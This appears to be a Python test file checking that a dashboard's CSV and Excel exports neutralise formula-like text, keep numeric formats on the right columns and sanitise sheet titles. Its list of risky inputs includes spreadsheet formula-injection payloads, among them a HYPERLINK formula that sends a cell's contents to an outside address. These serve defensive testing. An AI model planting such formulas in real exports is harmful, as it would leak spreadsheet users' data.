"""Exports that are data (issue 22, item 6): text a spreadsheet would run as a formula stays text,
numbers stay numbers with their format on their own column, and any panel title makes a sheet."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.web.drill_helpers import drill_config, seed
from wallboard.spreadsheet import neutralise, sheet_title
from wallboard.web.drill.export import Table, number_cell, text_cell, to_csv, to_xlsx

RISKY = ['=HYPERLINK("http://x/?"&A1,"klik")', "+62 812", "-1+2", "@SUM(A1)", "\tTAB", "\rCR"]


def _table() -> Table:
    table = Table(["Nama", "Nilai", "Catatan", "Selisih"], numeric={1, 3})
    for i, text in enumerate(RISKY):
        table.rows.append([text_cell(text), number_cell(1000.5 + i, 1, "id"), text_cell("biasa"),
                           number_cell(-12.25 - i, 1, "id")])
    return table


def test_neutralise_prefixes_only_risky_text() -> None:
    assert [neutralise(t) for t in RISKY] == ["'" + t for t in RISKY]
    assert neutralise("Jalan berlubang") == "Jalan berlubang"
    assert neutralise(-5) == -5 and neutralise(-5.5) == -5.5 and neutralise(None) is None


def test_csv_prefixes_risky_text_and_keeps_negative_numbers_numbers() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(_table()).decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["'" + t for t in RISKY]
    assert [r[3] for r in rows[1:]] == [str(-12.25 - i) for i in range(len(RISKY))]  # no quote: a number
    assert all(r[2] == "biasa" for r in rows[1:])


def test_xlsx_writes_risky_text_as_string_cells_never_formulas() -> None:
    body = to_xlsx(_table(), "Laporan", 1)
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
    ws = load_workbook(io.BytesIO(body)).active
    names = [ws.cell(row=r, column=1) for r in range(2, ws.max_row + 1)]
    # exactly the text the page showed (XML reads a carriage return back as a line feed)
    assert [c.value for c in names] == [t.replace("\r", "\n") for t in RISKY]
    assert all(c.data_type == "s" and c.quotePrefix for c in names)
    negatives = [ws.cell(row=r, column=4).value for r in range(2, ws.max_row + 1)]
    assert negatives == [-12.25 - i for i in range(len(RISKY))]


def test_xlsx_number_format_sits_on_the_numeric_columns_only() -> None:
    """The format belongs to the columns that hold numbers; a shift by one (the mutation in issue 22)
    puts it on a text column and leaves the figures unformatted."""
    ws = load_workbook(io.BytesIO(to_xlsx(_table(), "Laporan", 1))).active
    for r in range(2, ws.max_row + 1):
        formats = [ws.cell(row=r, column=c).number_format for c in range(1, 5)]
        assert formats == ["General", "#,##0.0", "General", "#,##0.0"], (r, formats)
    ws = load_workbook(io.BytesIO(to_xlsx(_table(), "Laporan", 0))).active
    assert ws.cell(row=2, column=2).number_format == "#,##0"


@pytest.mark.parametrize(("title", "expected"), [
    ("Harga 1/2: beras", "Harga 1-2- beras"), ("a[b]*?\\c", "a-b----c"), ("'kutip'", "kutip"),
    ("", "Data"), ("x" * 40, "x" * 31), ("///", "---"),
])
def test_sheet_titles_are_ones_excel_accepts(title: str, expected: str) -> None:
    assert sheet_title(title) == expected
    load_workbook(io.BytesIO(to_xlsx(_table(), title, 1)))  # openpyxl accepts it and the file opens


@pytest.fixture(scope="module")
def hostile_client(tmp_path_factory):
    """The drill wall with a panel title full of characters Excel refuses and an event from a source
    whose title is a formula."""
    from wallboard.records import Batch, Event
    from wallboard.runtime import Runtime
    from wallboard.store import Store
    from wallboard.web.app import create_app

    tmp: Path = tmp_path_factory.mktemp("export")
    url = f"sqlite:///{tmp / 'w.db'}"
    text = drill_config(url, "12.75", boundaries=False).replace(
        "{id: laporan, type: events,", '{id: laporan, title: "Laporan 1/2: warga [baru]", type: events,')
    (tmp / "w.yaml").write_text(text, encoding="utf-8")
    now = datetime.now(UTC)
    seed(url, "12.75", now)
    store = Store.open(url)
    store.write("lapor", Batch(events=[Event("E-9", now, "baru", RISKY[0], "-Infrastruktur", "12.75")]), now=now)
    store.close()
    runtime = Runtime.from_path(tmp / "w.yaml", collect=False)
    yield create_app(runtime).server.test_client()
    runtime.store.close()


def test_drill_exports_of_a_hostile_title_are_data(hostile_client) -> None:
    as_xlsx = hostile_client.get("/panel/laporan/export.xlsx?range=7d")
    assert as_xlsx.status_code == 200  # was 500: "/" and ":" in the sheet title
    book = load_workbook(io.BytesIO(as_xlsx.data))
    assert book.active.title == "Laporan 1-2- warga -baru-"
    cells = [c for row in book.active.iter_rows() for c in row if c.value == RISKY[0]]
    assert len(cells) == 1 and cells[0].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(as_xlsx.data)) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
    as_csv = hostile_client.get("/panel/laporan/export.csv?range=7d").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(as_csv)))
    mine = next(r for r in rows if r[-1] == "E-9")
    assert "'" + RISKY[0] in mine and "'-Infrastruktur" in mine
